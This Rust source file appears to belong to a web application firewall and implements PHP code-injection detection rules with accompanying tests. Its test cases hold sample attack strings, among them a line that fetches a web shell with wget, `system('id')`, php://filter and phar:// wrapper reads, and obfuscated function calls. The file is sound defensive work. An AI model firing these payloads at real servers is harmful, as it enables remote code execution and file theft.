//! PHP code injection (CRS 933100-933210, 934170): an open tag, a stream wrapper, a superglobal
//! or variable variable, a call of a function that runs commands or code, a call through a
//! variable or a string, a configuration directive set through `ini_set` or PHP-FPM.

use super::super::more::{call_of, code_argument, is_ident};
use super::super::{
    PHP_CALL, PHP_DIRECTIVE, PHP_FUNCTION_NAME, PHP_LOOSE, PHP_OPEN_TAG, PHP_VARIABLE,
    PHP_VARIABLE_CALL, PHP_WRAPPER,
};
use crate::engine::Anchor::Pieces;
use crate::engine::RuleDef;

pub(crate) const TABLE: &[RuleDef] = &[
    RuleDef {
        rule: PHP_OPEN_TAG,
        anchors: &[Pieces(&["<?", "php]"])],
        check: |v| open_tag(v.bytes(), v.lower()),
    },
    RuleDef {
        rule: PHP_WRAPPER,
        anchors: &[Pieces(&["://", "data:", "ssh2."])],
        check: |v| wrapper(v.bytes(), v.lower()),
    },
    RuleDef {
        rule: PHP_VARIABLE,
        anchors: &[Pieces(&["$"])],
        check: |v| superglobal(v.bytes(), v.lower()),
    },
    RuleDef {
        rule: PHP_CALL,
        anchors: &[Pieces(&["("])],
        check: |v| dangerous_call(v.bytes(), v.lower()),
    },
    RuleDef {
        rule: PHP_VARIABLE_CALL,
        anchors: &[Pieces(&["("])],
        check: |v| variable_call(v.bytes(), v.lower()),
    },
    RuleDef {
        rule: PHP_DIRECTIVE,
        anchors: &[Pieces(&["="])],
        check: |v| directive(v.bytes(), v.lower()),
    },
    RuleDef {
        rule: PHP_FUNCTION_NAME,
        anchors: &[Pieces(&["("])],
        check: |v| library_call(v.bytes(), v.lower()),
    },
    RuleDef {
        rule: PHP_LOOSE,
        anchors: &[Pieces(&["=", "$"])],
        check: |v| {
            let lower = v.lower();
            ini_directive(lower) || spaced_variable_call(lower)
        },
    },
];

/// `name=` or `name = ` with a php.ini directive prose and forms also name (`engine=true`,
/// `memory_limit = 512M`, `extension_dir=/x`), where the value starts.
fn ini_directive(lower: &str) -> bool {
    const DIRECTIVES: [&str; 22] = [
        "engine",
        "extension",
        "extension_dir",
        "precision",
        "smtp",
        "memory_limit",
        "max_execution_time",
        "post_max_size",
        "upload_max_filesize",
        "display_errors",
        "error_reporting",
        "include_path",
        "sendmail_path",
        "unserialize_max_depth",
        "short_open_tag",
        "expose_php",
        "file_uploads",
        "upload_tmp_dir",
        "error_log",
        "log_errors",
        "output_buffering",
        "variables_order",
    ];
    lower.match_indices('=').any(|(i, _)| {
        let before = lower.get(..i).unwrap_or_default().trim_end();
        let start = before
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .map_or(0, |p| p + 1);
        DIRECTIVES.contains(&before.get(start..).unwrap_or_default())
            && lower.get(..start).unwrap_or_default().trim().is_empty()
    })
}

/// A call through a variable with blanks or a comment before its `(` (`$OOO0000O0 (16)`,
/// `$_aB_4c[5]['d'] /*lol*/ (17)`); "$PATH (the search path)" has the shape.
fn spaced_variable_call(lower: &str) -> bool {
    lower.match_indices('$').any(|(i, _)| {
        let rest = lower.get(i + 1..).unwrap_or_default();
        let name = rest.len()
            - rest
                .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
                .len();
        if name == 0 || rest.bytes().next().is_some_and(|b| b.is_ascii_digit()) {
            return false;
        }
        let mut after = rest.get(name..).unwrap_or_default();
        loop {
            after = after.trim_start();
            if let Some(a) = after.strip_prefix('[') {
                after = a.find(']').and_then(|e| a.get(e + 1..)).unwrap_or("");
            } else if let Some(a) = after.strip_prefix("/*") {
                after = a.find("*/").and_then(|e| a.get(e + 2..)).unwrap_or("");
            } else {
                break;
            }
        }
        after.strip_prefix('(').is_some_and(|a| a.contains(')'))
    })
}

/// `<?php`, `<?=` or `<?` then a blank and code (not `<?xml`), and the forum tags `[php]`,
/// `[/php]`.
fn open_tag(_: &[u8], lower: &str) -> bool {
    lower.match_indices("<?").any(|(i, _)| {
        let rest = lower.get(i + 2..).unwrap_or_default();
        rest.starts_with("php")
            || rest.starts_with('=')
            || (rest.starts_with([' ', '\t', '\n', '\r'])
                && rest
                    .trim_start()
                    .bytes()
                    .next()
                    .is_some_and(|b| b.is_ascii_alphabetic() || b == b'$'))
    }) || lower.contains("[php]")
        || lower.contains("[/php]")
        || lower.contains("[\\php]")
}

/// PHP's stream wrappers (`php://filter`, `phar://`, `expect://`, `zlib://`, `glob://`,
/// `data://`) and a value that is a `data:` URL of a text or application type
/// (`data:text/plain;base64,…`), the include of attacker-given code; not image, audio, video
/// or font data.
fn wrapper(_: &[u8], lower: &str) -> bool {
    const WRAPPERS: [&str; 11] = [
        "php://",
        "phar://",
        "expect://",
        "zlib://",
        "glob://",
        "data://",
        "compress.zlib://",
        "compress.bzip2://",
        "ogg://",
        "rar://",
        "zip://",
    ];
    // libssh2's wrappers: `ssh2.shell://`, `ssh2.exec://`, `ssh2.scp://`, …
    if lower.match_indices("ssh2.").any(|(i, _)| {
        let rest = lower.get(i + 5..).unwrap_or_default();
        let name = rest.len()
            - rest
                .trim_start_matches(|c: char| c.is_ascii_alphabetic())
                .len();
        name > 0 && rest.get(name..).unwrap_or_default().starts_with("://")
    }) {
        return true;
    }
    if WRAPPERS.iter().any(|w| {
        lower.match_indices(w).any(|(i, _)| {
            !lower
                .as_bytes()
                .get(i.wrapping_sub(1))
                .copied()
                .is_some_and(is_ident)
                || i == 0
        })
    }) {
        return true;
    }
    let t = lower.trim_start_matches([' ', '"', '\'', '{']);
    t.strip_prefix("data:").is_some_and(|rest| {
        let rest = rest.trim_start();
        (rest.starts_with("text/") || rest.starts_with("application/"))
            && !rest.starts_with("text/css")
    })
}

/// A superglobal (`$_GET[`, `$_SERVER`, `$GLOBALS`, `$_COOKIE`…) or a variable variable with
/// a quoted or variable name (`${'a'}`, `$ {$a}`, `${@a}`).
fn superglobal(_: &[u8], lower: &str) -> bool {
    const GLOBALS: [&str; 10] = [
        "$_get",
        "$_post",
        "$_request",
        "$_server",
        "$_cookie",
        "$_files",
        "$_env",
        "$_session",
        "$globals",
        "$http_raw_post_data",
    ];
    let bytes = lower.as_bytes();
    GLOBALS.iter().any(|g| {
        lower
            .match_indices(g)
            .any(|(i, _)| !bytes.get(i + g.len()).copied().is_some_and(is_ident))
    }) || lower.match_indices('$').any(|(i, _)| {
        lower
            .get(i + 1..)
            .unwrap_or_default()
            .trim_start()
            .strip_prefix('{')
            .is_some_and(|r| r.trim_start().starts_with(['\'', '"', '$', '@']))
    })
}

/// Functions that run commands or code, or read and write files, with PHP names prose does not
/// use (`shell_exec`, `base64_decode`, `call_user_func`): any call. Names that are also words
/// (`system`, `exec`, `eval`, `assert`): a call with a code argument (a string, a variable, a
/// nested call, nothing: `system('id')`, `eval($x)`, `exec\n('x')`).
fn dangerous_call(_: &[u8], lower: &str) -> bool {
    const CODE_NAMES: [&str; 35] = [
        "chr",
        "shell_exec",
        "proc_open",
        "pcntl_exec",
        "create_function",
        "call_user_func",
        "call_user_func_array",
        "base64_decode",
        "gzinflate",
        "gzuncompress",
        "gzdecode",
        "str_rot13",
        "bzdecompress",
        "file_put_contents",
        "file_get_contents",
        "move_uploaded_file",
        "fsockopen",
        "pfsockopen",
        "stream_socket_client",
        "preg_replace",
        "phpinfo",
        "highlight_file",
        "show_source",
        "php_uname",
        "getenv",
        "posix_getpwuid",
        "proc_nice",
        "register_shutdown_function",
        "register_tick_function",
        "array_map",
        "usort",
        "include_once",
        "require_once",
        "ini_set",
        "set_include_path",
    ];
    const WORD_NAMES: [&str; 13] = [
        "system",
        "exec",
        "passthru",
        "popen",
        "eval",
        "assert",
        "include",
        "require",
        "file",
        "fopen",
        "readfile",
        "unserialize",
        "escapeshellcmd",
    ];
    call_of(lower, &CODE_NAMES, true, |_| true)
        || call_of(lower, &WORD_NAMES, false, |a| {
            code_argument(a) && !a.trim_start().starts_with(')')
        })
        || WORD_NAMES.iter().any(|n| empty_call_across_lines(lower, n))
}

/// `name`, a line break, then `()`: prose writes "eval()" on one line.
fn empty_call_across_lines(lower: &str, name: &str) -> bool {
    super::super::more::starts_of(lower, name).any(|i| {
        let rest = lower.get(i + name.len()..).unwrap_or_default();
        let blanks = rest.len() - rest.trim_start_matches([' ', '\t', '\r', '\n']).len();
        let gap = rest.get(..blanks).unwrap_or_default();
        gap.contains(['\r', '\n'])
            && rest.get(blanks..).unwrap_or_default().starts_with('(')
            && rest
                .get(blanks + 1..)
                .unwrap_or_default()
                .trim_start()
                .starts_with(')')
    })
}

/// A call through a variable (`$a(1)`, `$$b(2)`, `@$__[o](4)`, `$__['o'](5)`) or through a
/// name written as strings or in parentheses (`(system)('id')`, `"sys"."tem"('id')`,
/// `(sy.(st).em)('id')`).
fn variable_call(_: &[u8], lower: &str) -> bool {
    let bytes = lower.as_bytes();
    let through_variable = lower.match_indices('$').any(|(i, _)| {
        let rest = lower.get(i..).unwrap_or_default().trim_start_matches('$');
        let name = rest.len()
            - rest
                .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
                .len();
        if name == 0 || rest.bytes().next().is_some_and(|b| b.is_ascii_digit()) {
            return false;
        }
        let mut after = rest.get(name..).unwrap_or_default();
        // Subscripts: `[o]`, `['o']`, `{0}`.
        while let Some(close) = after
            .strip_prefix('[')
            .and_then(|a| a.find(']').map(|e| (e, a)))
            .or_else(|| {
                after
                    .strip_prefix('{')
                    .and_then(|a| a.find('}').map(|e| (e, a)))
            })
        {
            after = close.1.get(close.0 + 1..).unwrap_or_default();
        }
        // Glued to its `(`: prose puts a blank there ("$PATH (the search path)").
        let glued = !rest
            .get(name..)
            .unwrap_or_default()
            .starts_with([' ', '\t'])
            && !after.starts_with(' ');
        glued
            && after.strip_prefix('(').is_some_and(|a| a.contains(')'))
            && !bytes
                .get(i.wrapping_sub(1))
                .copied()
                .is_some_and(|b| b.is_ascii_alphanumeric())
    });
    through_variable || called_string(lower)
}

/// `)` or a quote, then `(` and an argument, where what is called, its
/// quotes, dots, parentheses and casts removed, ends with a command function's name.
fn called_string(lower: &str) -> bool {
    lower.match_indices('(').any(|(i, _)| {
        let before = lower.get(..i).unwrap_or_default().trim_end();
        let after = lower.get(i + 1..).unwrap_or_default().trim_start();
        if !before.ends_with([')', '"', '\'']) || after.starts_with(')') {
            return false;
        }
        let callee: String = before
            .replace("(string)", "")
            .chars()
            .filter(|c| c.is_ascii_alphanumeric() || *c == '_')
            .collect();
        [
            "system",
            "exec",
            "passthru",
            "shell_exec",
            "popen",
            "eval",
            "assert",
            "proc_open",
        ]
        .iter()
        .any(|n| callee.ends_with(n))
    })
}

/// A PHP configuration directive assigned (`ini_set` values, PHP-FPM's `PHP_VALUE`): the
/// directives that turn code loading on or move it (`allow_url_include=1`,
/// `auto_prepend_file=`, `disable_functions=`, `open_basedir=`), and `name.name=` with an
/// extension's section (`opcache.`, `session.`, `mbstring.`, `pcre.`, `zend.`, …).
fn directive(_: &[u8], lower: &str) -> bool {
    const DIRECTIVES: [&str; 9] = [
        "allow_url_include",
        "allow_url_fopen",
        "auto_prepend_file",
        "auto_append_file",
        "disable_functions",
        "open_basedir",
        "safe_mode",
        "register_globals",
        "cgi.force_redirect",
    ];
    const SECTIONS: [&str; 10] = [
        "opcache.",
        "session.",
        "mbstring.",
        "pcre.",
        "zend.",
        "phar.",
        "mysqli.",
        "assert.",
        "xdebug.",
        "suhosin.",
    ];
    lower.match_indices('=').any(|(i, _)| {
        let before = lower.get(..i).unwrap_or_default().trim_end();
        let start = before
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
            .map_or(0, |p| p + 1);
        let name = before.get(start..).unwrap_or_default();
        DIRECTIVES.contains(&name)
            || SECTIONS.iter().any(|s| {
                name.strip_prefix(s).is_some_and(|d| {
                    d.len() > 2 && d.bytes().all(|b| b.is_ascii_lowercase() || b == b'_')
                })
            })
    })
}

/// A call of a name with a PHP extension's or library's prefix (`array_diff (`,
/// `pg_enter_pipeline_mode(`, `sodium_crypto_…_keygen (`, `ldap_get_entries()`, `is_array()`,
/// `print_r( )`), of a builtin only code calls (`strrev(`, `intval(foo)`, `unpack()`), or of a
/// command function with any argument (`exec (blah)`, `system(whoami)`). Code in other
/// languages shares such names (`str_replace`, `array_map`), and prose "the system (Ubuntu)":
/// level 2.
fn library_call(_: &[u8], lower: &str) -> bool {
    const PREFIXES: [&str; 47] = [
        "array_",
        "date_",
        "str_",
        "mb_",
        "pg_",
        "mysql_",
        "mysqli_",
        "odbc_",
        "ldap_",
        "curl_",
        "sodium_",
        "openssl_",
        "tidy_",
        "zend_",
        "posix_",
        "pcntl_",
        "preg_",
        "xml_",
        "json_",
        "iconv_",
        "imap_",
        "ftp_",
        "socket_",
        "stream_",
        "ob_",
        "func_",
        "ini_",
        "session_",
        "hash_",
        "mcrypt_",
        "gmp_",
        "ctype_",
        "filter_",
        "spl_",
        "image",
        "gethostby",
        "ftok",
        "apache_",
        "opcache_",
        "libxml_",
        "get_",
        "is_",
        "print_",
        "file_",
        "strip_",
        "assert_",
        "var_",
    ];
    // Builtins without an underscore that only code calls.
    const BUILTINS: [&str; 12] = [
        "strrev",
        "strlen",
        "intval",
        "unpack",
        "serialize",
        "unserialize",
        "filegroup",
        "fileowner",
        "readfile",
        "fopen",
        "escapeshellarg",
        "escapeshellcmd",
    ];
    // The command and code functions of `php-004` with any argument (`exec (blah)`,
    // `system(whoami)`): prose puts a word in parentheses after "system" too.
    if call_of(lower, &BUILTINS, false, |_| true)
        || call_of(
            lower,
            &[
                "system", "exec", "passthru", "popen", "eval", "assert", "include", "require",
            ],
            false,
            |a| !a.trim_start().starts_with(')'),
        )
    {
        return true;
    }
    let bytes = lower.as_bytes();
    lower.match_indices('(').any(|(i, _)| {
        let before = lower.get(..i).unwrap_or_default().trim_end();
        let start = before
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .map_or(0, |p| p + 1);
        let name = before.get(start..).unwrap_or_default();
        let glued_to_member = start > 0 && matches!(bytes.get(start - 1), Some(b'.') | Some(b'>'));
        name.len() > 4
            && !glued_to_member
            && PREFIXES.iter().any(|p| name.starts_with(p))
            && (code_argument(lower.get(i + 1..).unwrap_or_default()) || name.contains('_'))
    })
}

#[cfg(test)]
mod tests {
    use super::super::super::more::cases::{attacks, benign};
    use super::*;

    #[test]
    fn cases() {
        attacks(
            TABLE,
            &[
                ("<?php echo 1; ?>", "php-001"),
                ("<? exec('wget http://x/r57.txt')", "php-001"),
                ("<?=`id`?>", "php-001"),
                ("somePhpWouldGoHere[/php]", "php-001"),
                (
                    "php://filter/convert.base64-encode/resource=index.php",
                    "php-002",
                ),
                ("php://stdout", "php-002"),
                ("phar://./uploads/x.jpg", "php-002"),
                ("data:text/plain;base64,SSBsb3ZlIFBIUAo=", "php-002"),
                ("data:text/plain", "php-002"),
                ("$_SERVER['test'];", "php-003"),
                ("$_GET[cmd]", "php-003"),
                ("${'ff'}", "php-003"),
                ("$ {$a}", "php-003"),
                ("system('id')", "php-004"),
                ("eval($foo)", "php-004"),
                ("eval\r($foo)", "php-004"),
                ("exec\n('bar')", "php-004"),
                ("base64_decode()", "php-004"),
                ("FOOcall_user_func()", "php-004"),
                ("file\r\n()", "php-004"),
                ("chr(123)", "php-004"),
                ("$a(1)", "php-005"),
                ("$$b(2)", "php-005"),
                ("@$__[o](4)", "php-005"),
                ("$__['o'](5)", "php-005"),
                ("(system)('uname') ;", "php-005"),
                ("(sy.(st).em)('uname');", "php-005"),
                ("(string)\"system\"('uname');", "php-005"),
                ("allow_url_include=1", "php-006"),
                ("opcache.jit_max_polymorphic_calls=50", "php-006"),
                ("array_diff (", "php-007"),
                ("pg_enter_pipeline_mode ()", "php-007"),
                ("gethostbyname(", "php-007"),
                ("exec  (blah)", "php-007"),
                ("exec #comment\r\n (blah)", "php-007"),
                ("system(whoami)", "php-007"),
                ("is_array()", "php-007"),
                ("intval(foo)", "php-007"),
                ("${@a}(10)", "php-003"),
                ("ssh2.shell://user:password@example.com:22/xterm", "php-002"),
                ("return\"system\"(xyz).s", "php-005"),
                ("(system)(whoami)", "php-005"),
                ("engine=true", "php-008"),
                ("memory_limit = 512M", "php-008"),
                ("$OOO0000O0 (16)", "php-008"),
                ("$_aB_4c[5]['d'] /*lol*/ (17)", "php-008"),
            ],
        );
        benign(
            TABLE,
            1,
            &[
                "<?xml version=\"1.0\"?><a/>",
                "The system (as a whole) works",
                "Use eval() carefully, the docs say",
                "Execute the plan (today)",
                "I paid $5 (five dollars)",
                "$PATH (the search path)",
                "Costs $20 ($25 with tax)",
                "data:image/png;base64,iVBORw0KGgo=",
                "file (see attachment)",
                "My system (Ubuntu) runs fine",
                "session.timeout is 30 minutes",
                "I include (as promised) the photos",
                "$('#menu').show()",
                "https://php.net/manual/en/function.eval.php",
            ],
        );
        benign(
            TABLE,
            2,
            &[
                "I paid $5 (five dollars)",
                "See array_map in the docs",
                "x.str_replace(a, b)",
            ],
        );
    }
}
